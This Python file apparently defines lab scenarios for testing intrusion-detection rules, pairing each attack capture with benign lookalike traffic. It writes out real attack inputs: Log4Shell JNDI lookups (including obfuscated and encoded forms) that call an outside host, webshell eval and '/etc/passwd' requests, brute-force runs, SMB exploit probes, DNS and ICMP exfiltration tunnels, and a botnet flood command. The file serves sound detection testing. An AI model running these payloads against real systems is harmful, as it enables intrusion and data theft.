# SPDX-FileCopyrightText: Lagewarte contributors
# SPDX-License-Identifier: EUPL-1.2
"""The scenarios: which real client does what to which real server.

Purpose: one function per capture. Its name says the file, its first line what
happens, so that the count in case.json can be checked by reading.

Never: time anything by guessing; servers are up when their port is bound.
"""

import os
import subprocess
import threading
import time

import servers
from lab import ATTACKER, ATTACKER2, ATTACKER6, CITIZEN, CITIZEN6, PARTNER, PC, PC_MORE, SRV, SRV6, LabError
from servers import PASSWORD
from stage import scenario


# ------------------------------------------------------------ brute force


@scenario("1100101-ssh-bruteforce/fires", "g-srv", "tcp port 22")
def ssh_bruteforce(s):
    """hydra tries twelve passwords in many connections."""
    servers.sshd(s.lab)
    words = s.lab.write("words", "\n".join(["admin", "123456", "passwort", "rathaus", "Sommer2025", "Winter2025", "qwertz", "test",
                                            "root", "letmein", "musterstadt", "geheim"]) + "\n")
    s.start()
    s.client("net", "hydra", "-I", "-l", "admin", "-P", words, "-t", "4", f"ssh://{SRV}", ok=None)


@scenario("1100101-ssh-bruteforce/quiet", "g-srv", "tcp port 22")
def ssh_work(s):
    """An external service provider logs in with a key, four times: commands and a file."""
    servers.sshd(s.lab)
    s.source("net", PARTNER)
    s.start()
    for command in ("uptime", "df -h /", "cat > /dev/null", "id -u"):
        s.ssh(command, stdin="Protokoll\n" * 200 if command.startswith("cat") else None)


def display(s):
    """A virtual screen for xfreerdp, which does nothing without one."""
    s.lab.daemon("net", "Xvfb", ":77", "-screen", "0", "640x480x16", "-nolisten", "tcp")
    deadline = time.monotonic() + 10
    while not os.path.exists("/tmp/.X11-unix/X77"):
        if time.monotonic() > deadline:
            raise LabError("Xvfb did not open display :77 within 10 s")
        time.sleep(0.05)


@scenario("1100102-rdp-bruteforce/fires", "g-srv", "tcp port 3389")
def rdp_bruteforce(s):
    """xfreerdp tries ten passwords, each in a connection of its own."""
    servers.xrdp(s.lab)
    display(s)
    s.start()
    for number in range(10):
        s.client("net", "env", "DISPLAY=:77", f"HOME={s.lab.folder}", "timeout", "1", "xfreerdp", f"/v:{SRV}", "/cert:ignore", "/u:administrator",
                 f"/p:Passwort{number}", "+auth-only", "/sec:tls", ok=None)


@scenario("1100102-rdp-bruteforce/quiet", "g-srv", "tcp port 3389")
def rdp_work(s):
    """xfreerdp opens the logon window twice and leaves."""
    servers.xrdp(s.lab)
    display(s)
    s.source("net", CITIZEN)
    s.start()
    for _ in range(2):
        s.client("net", "env", "DISPLAY=:77", f"HOME={s.lab.folder}", "timeout", "4", "xfreerdp", f"/v:{SRV}", "/cert:ignore", "/u:mueller",
                 "/p:x", "/size:400x300", "/bpp:8", "/sec:tls", "-themes", "-wallpaper", ok=None)


@scenario("1100103-ftp-bruteforce/fires", "g-srv", "tcp port 21")
def ftp_bruteforce(s):
    """curl logs in with nine wrong passwords, one connection each."""
    servers.ftp(s.lab, user="amt")
    s.start()
    threads = [threading.Thread(target=s.curl, args=("-u", f"amt:falsch{n}", f"ftp://{SRV}/"), kwargs={"ok": None}) for n in range(9)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@scenario("1100103-ftp-bruteforce/quiet", "g-srv", "tcp port 21 or portrange 30000-65535 and not port 53")
def ftp_mistyped(s):
    """One wrong password, then an anonymous download."""
    servers.ftp(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl("-u", "amt:vertippt", f"ftp://{SRV}/", ok=None)
    s.curl(f"ftp://{SRV}/satzung.txt")


# ------------------------------------------------------------ scans


@scenario("1100201-port-scan/fires", "g-srv", "tcp")
def port_scan(s):
    """nmap, SYN scan of ports 60 to 109 on one host: 49 of them count (80 is left out), all closed."""
    s.start()
    s.client("net", "nmap", "-sS", "-Pn", "-n", "-p", "60-109", "--max-retries", "0", "-S", ATTACKER, "-e", "eth0", SRV)


@scenario("1100201-port-scan/quiet", "g-srv", "tcp")
def many_services(s):
    """One visitor uses web, mail and a special service on port 81, a port that a scan would touch."""
    servers.nginx(s.lab)
    servers.nginx(s.lab, port=81)
    servers.dovecot(s.lab)
    s.source("net", CITIZEN)
    s.start()
    for _ in range(6):
        s.curl(f"http://{SRV}:81/oeffnungszeiten.html")
    s.curl(f"http://{SRV}/")
    s.curl("-k", f"https://{SRV}/")
    s.curl("-k", "--ssl-reqd", "-u", f"amt:{PASSWORD}", f"imap://{SRV}/")


@scenario("1100202-host-scan-tcp/fires", "g-srv", "tcp")
def host_scan(s):
    """nmap asks 31 addresses for port 445; one SYN each."""
    s.start()
    s.client("net", "nmap", "-sS", "-Pn", "-n", "-p", "445", "--max-retries", "0", "-S", ATTACKER2, "-e", "eth0", "10.20.1.10-40")


@scenario("1100202-host-scan-tcp/quiet", "g-srv", "tcp port 445")
def file_share(s):
    """A branch office works on the file share, three sessions with SMB3."""
    servers.smbd(s.lab)
    s.source("net", PARTNER)
    s.start()
    for command in ("ls", f"get bescheid.txt {s.lab.path('copy')}", f"put {s.lab.path('copy')} antwort.txt"):
        s.smb(command)


@scenario("1100203-ping-sweep/fires", "g-srv", "icmp")
def ping_sweep(s):
    """nmap's ping sweep over 31 addresses."""
    s.start()
    s.client("net", "nmap", "-sn", "-PE", "-n", "--max-retries", "0", "10.20.1.10-40")


@scenario("1100203-ping-sweep/quiet", "g-srv", "icmp")
def ping_monitoring(s):
    """A provider's monitoring pings three hosts, five times each."""
    s.source("net", PARTNER)
    s.start()
    for host in (SRV, "10.20.1.11", "10.20.1.12"):
        s.client("net", "ping", "-q", "-c", "5", "-i", "0.2", host)


@scenario("1100204-xmas-scan/fires", "g-srv", "tcp")
def xmas_scan(s):
    """nmap's Xmas scan of four ports."""
    s.start()
    s.client("net", "nmap", "-sX", "-Pn", "-n", "-p", "22,80,443,8080", "--max-retries", "0", SRV)


@scenario("1100204-xmas-scan/quiet", "g-srv", "tcp port 80 or tcp port 443")
def web_closing(s):
    """Visitors whose connections end with FIN and PSH, on the same ports."""
    servers.nginx(s.lab)
    s.source("net", CITIZEN)
    s.start()
    for _ in range(3):
        s.curl("-H", "Connection: close", f"http://{SRV}/")
        s.curl("-k", f"https://{SRV}/")


@scenario("1100206-ntp-monlist/fires", "g-srv", "udp port 123")
def ntp_monlist(s):
    """nmap's script asks the time server for its client list."""
    servers.chronyd(s.lab)
    s.start()
    s.client("net", "nmap", "-sU", "-Pn", "-n", "-p", "123", "--script", "ntp-monlist", SRV)


@scenario("1100206-ntp-monlist/quiet", "g-srv", "udp port 123")
def ntp_time(s):
    """chrony asks the time; `-Q` does not set a clock."""
    servers.chronyd(s.lab)
    s.source("net", PARTNER)
    s.start()
    s.client("net", "chronyd", "-Q", "-f", "/dev/null", "-u", "root", "-t", "8", f"server {SRV} iburst maxsamples 2", f"pidfile {s.lab.path('q.pid')}",
             "cmdport 0", "bindcmdaddress /", ok=None)


# ------------------------------------------------------------ SMB, TFTP


@scenario("1100301-smb1-external/fires", "g-srv", "tcp port 445")
def smb1(s):
    """smbclient held to SMB1 lists the share from outside."""
    servers.smbd(s.lab)
    s.start()
    s.smb("ls", protocol="NT1")


@scenario("1100301-smb1-external/quiet", "g-srv", "tcp port 445")
def smb3(s):
    """The same with SMB3."""
    servers.smbd(s.lab)
    s.source("net", PARTNER)
    s.start()
    s.smb(f"get bescheid.txt {s.lab.path('copy')}")


def lateral_quiet(s):
    """A workstation with SMB1 and one with SMB3 use the share as they should."""
    servers.smbd(s.lab)
    s.start()
    s.smb("ls", where="pc", protocol="NT1")
    s.smb(f"get bescheid.txt {s.lab.path('copy')}", where="pc")


@scenario("1100302-smb-ms17-010-probe/fires", "g-srv", "tcp port 445")
def ms17_010(s):
    """nmap's check for MS17-010 from an infected workstation."""
    servers.smbd(s.lab)
    s.start()
    s.client("pc", "nmap", "-Pn", "-n", "-p", "445", "--script", "smb-vuln-ms17-010", SRV)


@scenario("1100303-smb-doublepulsar/fires", "g-srv", "tcp port 445")
def doublepulsar(s):
    """nmap's check for DoublePulsar from an infected workstation."""
    servers.smbd(s.lab)
    s.start()
    s.client("pc", "nmap", "-Pn", "-n", "-p", "445", "--script", "smb-double-pulsar-backdoor", SRV)


for _case in ("1100302-smb-ms17-010-probe", "1100303-smb-doublepulsar", "1100304-smb-eternalblue"):
    scenario(f"{_case}/quiet", "g-srv", "tcp port 445")(lateral_quiet)


@scenario("1100305-tftp-download/fires", "g-pc", "udp")
def tftp_internet(s):
    """A workstation fetches a file by TFTP from the Internet."""
    servers.tftpd(s.lab, "net")
    s.start()
    s.client("pc", "tftp", "-m", "octet", ATTACKER, "-c", "get", "telefon.cfg", s.lab.path("fetched"))


@scenario("1100305-tftp-download/quiet", "g-srv", "udp")
def tftp_telephone(s):
    """A telephone fetches its settings from the house's own server."""
    servers.tftpd(s.lab)
    s.start()
    s.client("pc", "tftp", "-m", "octet", SRV, "-c", "get", "telefon.cfg", s.lab.path("fetched"))


# ------------------------------------------------------------ web


@scenario("1100401-log4shell/fires", "g-srv", "tcp port 80")
def log4shell(s):
    """curl plants the lookup in three places: agent, address, referrer."""
    servers.nginx(s.lab)
    lookup = "${jndi:ldap://203.0.113.66:1389/a}"
    s.start()
    s.curl("-A", lookup, f"http://{SRV}/")
    s.curl("-g", f"http://{SRV}/?q={lookup.replace('jndi', 'JNDI')}", ok=None)
    s.curl("-e", lookup, f"http://{SRV}/")


@scenario("1100401-log4shell/quiet", "g-srv", "tcp port 80")
def web_visit(s):
    """Ordinary visits, among them a search for the topic and a template variable."""
    servers.nginx(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl(f"http://{SRV}/")
    s.curl(f"http://{SRV}/oeffnungszeiten.html?q=log4j+jndi+ldap")
    s.curl("-g", f"http://{SRV}/?vorlage=${{name}}")


@scenario("1100402-log4shell-obfuscated/fires", "g-srv", "tcp port 80 and host fd42:20:1::10")
def log4shell_hidden(s):
    """Two obfuscated forms, over IPv6."""
    servers.nginx(s.lab)
    s.source("net", ATTACKER6)
    s.start()
    s.curl("-A", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}", f"http://[{SRV6}]/")
    s.curl("-H", "X-Api-Version: ${${::-j}${::-n}di:rmi://203.0.113.66/b}", f"http://[{SRV6}]/")


@scenario("1100402-log4shell-obfuscated/quiet", "g-srv", "tcp port 80 and host fd42:20:1::10")
def web_visit_v6(s):
    """Ordinary visits over IPv6, one with two template variables."""
    servers.nginx(s.lab)
    s.source("net", CITIZEN6)
    s.start()
    s.curl(f"http://[{SRV6}]/")
    s.curl("-g", f"http://[{SRV6}]/?vorlage=${{vorname}}${{nachname}}")


@scenario("1100403-log4shell-encoded/fires", "g-srv", "tcp port 80")
def log4shell_encoded(s):
    """curl sends the lookup percent-encoded, with capital and small hex digits."""
    servers.nginx(s.lab)
    s.start()
    for text in ("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D", "%24%7bjndi:dns://203.0.113.66/b%7d"):
        s.curl(f"http://{SRV}/?q={text}")


@scenario("1100403-log4shell-encoded/quiet", "g-srv", "tcp port 80")
def web_encoded(s):
    """Visits with other percent-encoded text, among it a template variable."""
    servers.nginx(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl(f"http://{SRV}/?q=M%C3%BCll%20jndi")
    s.curl(f"http://{SRV}/?vorlage=%24%7Bname%7D")


@scenario("1100411-webshell-eval/fires", "g-srv", "tcp port 8080")
def webshell_eval(s):
    """Two commands to a China Chopper shell."""
    servers.php(s.lab)
    s.start()
    for code in ("ZWNobyBwaHB2ZXJzaW9uKCk7", "ZWNobyBkYXRlKCJZIik7"):
        s.curl("--data", f"z=eval(base64_decode(\"{code}\"));", f"http://{SRV}:8080/bilder/x.php")


@scenario("1100411-webshell-eval/quiet", "g-srv", "tcp port 8080")
def php_form(s):
    """A citizen sends a form to the same server."""
    servers.php(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl("--data", "name=Erika+Muster&text=Bitte+um+base64+und+eval", f"http://{SRV}:8080/formular.php")
    s.curl("-F", "name=Erika", f"http://{SRV}:8080/formular.php")


@scenario("1100412-webshell-cmd/fires", "g-srv", "tcp port 8080")
def webshell_cmd(s):
    """Two requests for the password file."""
    servers.php(s.lab)
    s.start()
    s.curl(f"http://{SRV}:8080/bilder/x.php?cmd=cat+/etc/passwd+|head+-2")
    s.curl(f"http://{SRV}:8080/bilder/x.php?cmd=ls+-l+/etc/passwd")


@scenario("1100412-webshell-cmd/quiet", "g-srv", "tcp port 8080")
def php_search(s):
    """A search with a parameter of the same name."""
    servers.php(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl(f"http://{SRV}:8080/suche.php?cmd=suche&q=passwort+vergessen")
    s.curl(f"http://{SRV}:8080/suche.php?q=abfall")


@scenario("1100413-webshell-answer/fires", "g-srv", "tcp port 8080")
def webshell_answer(s):
    """The shell answers `id`, once."""
    servers.php(s.lab)
    s.start()
    s.curl("--data", "cmd=id", f"http://{SRV}:8080/bilder/x.php")


@scenario("1100413-webshell-answer/quiet", "g-srv", "tcp port 8080")
def php_account(s):
    """A page that shows words like uid and gid, and the search."""
    servers.php(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl(f"http://{SRV}:8080/konto.php")
    s.curl(f"http://{SRV}:8080/suche.php?q=uid")


# ------------------------------------------------------------ DNS


def iodine(kind):
    """An infected workstation opens a tunnel with queries of one type and sends some data."""

    def play(s):
        servers.iodined(s.lab, "net")
        s.start()
        s.lab.daemon("pc", "iodine", "-f", "-r", "-P", "tunnel", "-T", kind, "-m", "200", "-I", "1", "-L", "0", ATTACKER, "t.example")
        deadline = time.monotonic() + 30
        while "1 received" not in s.client("pc", "ping", "-c", "1", "-W", "1", "10.99.0.1", ok=None):
            if time.monotonic() > deadline:
                raise LabError("the tunnel did not come up within 30 s")
            time.sleep(0.1)
        # Random, because iodine compresses; port 9 (discard) is closed at the far end, which does not matter.
        for _ in range(4):
            s.client("pc", "bash", "-c", "openssl rand 1000 > /dev/udp/10.99.0.1/9")
            s.client("pc", "ping", "-q", "-c", "2", "-i", "0.5", "10.99.0.1", ok=None)

    return play


scenario("1100501-dns-tunnel-null/fires", "g-pc", "udp port 53")(iodine("NULL"))
scenario("1100503-dns-tunnel-long/fires", "g-pc", "udp port 53")(iodine("CNAME"))


@scenario("1100502-dns-tunnel-txt/fires", "g-pc", "udp port 53")
def dns_txt(s):
    """dig carries 24 pieces of a file out in TXT questions, without cookie, 120 characters each."""
    servers.dns(s.lab, "net")
    s.start()
    for number in range(24):
        piece = ".".join(f"{number:02x}{part}" + "7a" * 18 for part in range(3))
        s.dig("+noall", "+nocookie", "TXT", f"{piece}.x.example", server=ATTACKER)


def dns_everyday(s):
    """A workstation asks for the web and a mail server checks a sender."""
    servers.dns(s.lab, "net")
    s.start()
    for kind, name in (("A", "www.musterstadt.example"), ("AAAA", "www.musterstadt.example"), ("MX", "musterstadt.example"),
                       ("TXT", "musterstadt.example"), ("TXT", "_dmarc.musterstadt.example"), ("TXT", "s2026._domainkey.musterstadt.example"),
                       ("A", "updates.example"), ("A", "gibt-es-nicht.example"), ("SOA", "musterstadt.example")):
        s.dig(kind, name)


for _case in ("1100501-dns-tunnel-null", "1100502-dns-tunnel-txt", "1100503-dns-tunnel-long", "1100601-wannacry-domain"):
    scenario(f"{_case}/quiet", "g-pc", "udp port 53")(dns_everyday)


# ------------------------------------------------------------ malware


@scenario("1100601-wannacry-domain/fires", "g-pc", "udp port 53")
def wannacry(s):
    """The kill switch domain is asked for twice; the rule says so once per five minutes."""
    servers.dns(s.lab, "net")
    s.start()
    for kind in ("A", "AAAA"):
        s.dig(kind, "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com")


@scenario("1100602-cobalt-strike/fires", "g-pc", "tcp port 80")
def cobalt_strike(s):
    """curl plays the beacon: three results, one alert per minute and host."""
    servers.php(s.lab, "net", port=80)
    s.start()
    for number in range(3):
        s.curl("-A", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)", "-H", "Content-Type: application/octet-stream",
               "--data-binary", "\x01\x02beacon", f"http://{ATTACKER}/submit.php?id={1000 + number}", where="pc")


@scenario("1100602-cobalt-strike/quiet", "g-pc", "tcp port 80")
def outside_form(s):
    """An employee sends a form to a page of the same name, and an update client uploads raw data elsewhere."""
    servers.php(s.lab, "net", port=80)
    s.start()
    s.curl("--data", "name=Amt", f"http://{PARTNER}/submit.php?id=7", where="pc")
    s.curl("-H", "Content-Type: application/octet-stream", "--data-binary", "abc", f"http://{PARTNER}/formular.php", where="pc")


@scenario("1100603-meterpreter-stage/quiet", "g-pc", "tcp port 4444")
def setup_download(s):
    """A setup program is fetched over HTTP from the same port."""
    servers.nginx(s.lab, "net", port=4444)
    s.start()
    s.curl("-o", "/dev/null", f"http://{PARTNER}:4444/setup.exe", where="pc")


def irc(order):
    """Two users in one channel on ngIRCd; the inner one is recorded. `order` is what the outer one says."""

    def play(s):
        servers.ngircd(s.lab, "net")
        joined = threading.Event()
        s.start()

        def member(where, nick, say):
            client = subprocess.Popen(s.lab.inside(where, ["curl", "-q", "-sS", "-N", "--max-time", "20", f"telnet://{ATTACKER}:6667"]),
                                      stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            client.stdin.write(f"NICK {nick}\r\nUSER {nick} 0 * :{nick}\r\n")
            client.stdin.flush()
            for line in client.stdout:
                if " 376 " in line or " 422 " in line:
                    if say:
                        joined.wait(15)
                    client.stdin.write("JOIN #haus\r\n")
                    client.stdin.flush()
                if " 366 " in line:
                    joined.set()
                    if say:
                        client.stdin.write(f"PRIVMSG #haus :{say}\r\n")
                        client.stdin.flush()
                        break
                if "PRIVMSG #haus" in line:
                    break
            try:
                client.stdin.write("QUIT\r\n")
                client.stdin.close()
            except BrokenPipeError:
                pass  # curl has gone at its own time limit
            client.wait(timeout=25)

        inner = threading.Thread(target=member, args=("pc", "gast7", None))
        inner.start()
        member("net", "chef", order)
        inner.join()

    return play


scenario("1100604-irc-bot/fires", "g-pc", "tcp port 6667")(irc("!u @udpflood 198.51.100.1 80 60"))
scenario("1100604-irc-bot/quiet", "g-pc", "tcp port 6667")(irc("Treffen um zehn; das Thema ist udp flood @home"))


@scenario("1100606-icmp-tunnel/fires", "g-pc", "icmp")
def icmp_tunnel(s):
    """A file of 24,000 bytes leaves through ptunnel."""
    servers.php(s.lab, "net", port=80)
    servers.ptunnel_proxy(s.lab, "net")
    body = s.lab.write("body", "0123456789abcdef" * 1500)
    s.start()
    servers.ptunnel_client(s.lab, "pc", ATTACKER, 8000, PARTNER, 80)
    s.curl("-H", "Expect:", "--data-binary", f"@{body}", "http://127.0.0.1:8000/submit.php", where="pc")


@scenario("1100606-icmp-tunnel/quiet", "g-pc", "icmp")
def ping_out(s):
    """Monitoring of the provider's address and a test of the path size."""
    s.start()
    s.client("pc", "ping", "-q", "-c", "10", "-i", "0.2", PARTNER)
    s.client("pc", "ping", "-q", "-c", "4", "-i", "0.2", "-M", "do", "-s", "1472", PARTNER)


# ------------------------------------------------------------ cleartext passwords


@scenario("1100701-ftp-cleartext/fires", "g-srv", "tcp port 21")
def ftp_password(s):
    """Two FTP logins with a password."""
    servers.ftp(s.lab, user="amt")
    s.start()
    for _ in range(2):
        s.curl("-u", f"amt:{PASSWORD}", f"ftp://{SRV}/", "--list-only")


@scenario("1100701-ftp-cleartext/quiet", "g-srv", "tcp port 21")
def ftp_anonymous(s):
    """Two anonymous downloads."""
    servers.ftp(s.lab)
    s.source("net", CITIZEN)
    s.start()
    for _ in range(2):
        s.curl(f"ftp://{SRV}/satzung.txt")


@scenario("1100702-pop3-cleartext/fires", "g-srv", "tcp port 110")
def pop3_password(s):
    """fetchmail looks for mail twice, without TLS."""
    servers.dovecot(s.lab)
    config = s.lab.write("fetchmailrc", f"poll {SRV} protocol pop3 auth password username amt password {PASSWORD} sslproto ''\n", mode=0o600)
    s.start()
    for _ in range(2):
        s.client("net", "env", f"HOME={s.lab.folder}", "fetchmail", "-f", config, "-c", ok=(0, 1))


@scenario("1100702-pop3-cleartext/quiet", "g-srv", "tcp port 110")
def pop3_tls(s):
    """The same account after STLS."""
    servers.dovecot(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl("-k", "--ssl-reqd", "-u", f"amt:{PASSWORD}", f"pop3://{SRV}/")


@scenario("1100703-imap-cleartext/fires", "g-srv", "tcp port 143")
def imap_password(s):
    """fetchmail looks for mail over IMAP three times, without TLS."""
    servers.dovecot(s.lab)
    config = s.lab.write("fetchmailrc", f"poll {SRV} protocol imap auth password username amt password {PASSWORD} sslproto ''\n", mode=0o600)
    s.start()
    for _ in range(3):
        s.client("net", "env", f"HOME={s.lab.folder}", "fetchmail", "-f", config, "-c", ok=(0, 1))


@scenario("1100703-imap-cleartext/quiet", "g-srv", "tcp port 143")
def imap_tls(s):
    """The same account after STARTTLS."""
    servers.dovecot(s.lab)
    s.source("net", CITIZEN)
    s.start()
    for _ in range(2):
        s.curl("-k", "--ssl-reqd", "-u", f"amt:{PASSWORD}", f"imap://{SRV}/")


@scenario("1100704-http-basic/fires", "g-srv", "tcp port 80")
def http_basic(s):
    """Two requests with a password; one alert per minute and source."""
    servers.nginx(s.lab)
    s.start()
    for _ in range(2):
        s.curl("-u", f"amt:{PASSWORD}", f"http://{SRV}/intern/plan.html")


@scenario("1100704-http-basic/quiet", "g-srv", "tcp port 80")
def http_open(s):
    """The area refuses a visitor without password; another sends a bearer token."""
    servers.nginx(s.lab)
    s.source("net", CITIZEN)
    s.start()
    s.curl(f"http://{SRV}/intern/plan.html")
    s.curl("-H", "Authorization: Bearer abcdef", f"http://{SRV}/")


@scenario("1100705-telnet-external/fires", "g-srv", "tcp port 23")
def telnet_outside(s):
    """telnet from outside sees the login prompt and leaves."""
    servers.telnetd(s.lab)
    s.start()
    s.client("net", "sh", "-c", f"sleep 3 | telnet {SRV}", ok=None)


@scenario("1100705-telnet-external/quiet", "g-srv", "tcp port 23")
def telnet_inside(s):
    """An administrator does the same from inside."""
    servers.telnetd(s.lab)
    s.start()
    s.client("pc", "sh", "-c", f"sleep 3 | telnet {SRV}", ok=None)


def swaks(s, *arguments):
    """One mail to the submission port."""
    s.client("net", "swaks", "--server", SRV, "--port", "587", "--from", "amt@musterstadt.example", "--to", "land@example.org",
             "--helo", "pc.example", "--header", "Subject: Protokoll", "--auth-user", "amt", "--auth-password", PASSWORD, *arguments)


@scenario("1100706-smtp-login-cleartext/fires", "g-srv", "tcp port 587")
def smtp_login(s):
    """swaks with AUTH LOGIN, twice."""
    servers.smtp(s.lab)
    s.start()
    swaks(s, "--auth", "LOGIN")
    swaks(s, "--auth", "LOGIN")


@scenario("1100707-smtp-plain-cleartext/fires", "g-srv", "tcp port 587")
def smtp_plain(s):
    """swaks with AUTH PLAIN, once."""
    servers.smtp(s.lab)
    s.start()
    swaks(s, "--auth", "PLAIN")


def smtp_tls(s):
    """swaks after STARTTLS."""
    servers.smtp(s.lab)
    s.source("net", CITIZEN)
    s.start()
    swaks(s, "--tls", "--auth", "LOGIN")
    swaks(s, "--tls", "--auth", "PLAIN")


for _case in ("1100706-smtp-login-cleartext", "1100707-smtp-plain-cleartext"):
    scenario(f"{_case}/quiet", "g-srv", "tcp port 587")(smtp_tls)


# ------------------------------------------------------------ background


@scenario("background", "g-net", "ip and not (udp port 53 and host 10.20.1.10)")
def background(s):
    """What an hour at a town hall's gateway looks like; the sessions are spread over the hour afterwards."""
    for name in ("sshd", "nginx", "php", "dovecot", "smbd", "smtp", "chronyd"):
        getattr(servers, name)(s.lab)
    servers.dns(s.lab, "net")
    servers.nginx(s.lab, "net")
    servers.chronyd(s.lab, "net")
    s.start()
    for round_number in range(12):
        s.source("net", [CITIZEN, PARTNER][round_number % 2])
        s.source("pc", ([PC] + PC_MORE)[round_number % 3])
        for kind, name in (("A", "www.musterstadt.example"), ("AAAA", "www.musterstadt.example"), ("A", "updates.example"), ("MX", "musterstadt.example")):
            s.dig(kind, name)
        s.curl(f"http://{PARTNER}/oeffnungszeiten.html", where="pc")
        s.curl("-k", "-o", "/dev/null", f"https://{PARTNER}/", where="pc")
        s.curl(f"http://{SRV}/")
        s.curl("-k", "-o", "/dev/null", f"https://{SRV}/")
        for where, host in (("net", SRV), ("pc", PARTNER)):
            s.client(where, "ping", "-q", "-c", "4", "-i", "0.2", host)
        if round_number % 3 == 0:
            swaks(s, "--tls", "--auth", "LOGIN")
            s.curl("-k", "--ssl-reqd", "-u", f"amt:{PASSWORD}", f"imap://{SRV}/")
            s.curl("--data", "name=Erika+Muster", f"http://{SRV}:8080/formular.php")
        if round_number % 4 == 1:
            s.ssh("uptime")
            s.smb(f"get bescheid.txt {s.lab.path('copy')}")
            s.dig("TXT", "musterstadt.example")
            s.client("pc", "chronyd", "-Q", "-f", "/dev/null", "-u", "root", "-t", "8", f"server {PARTNER} iburst maxsamples 2",
                     f"pidfile {s.lab.path('q.pid')}", "cmdport 0", "bindcmdaddress /", ok=None)
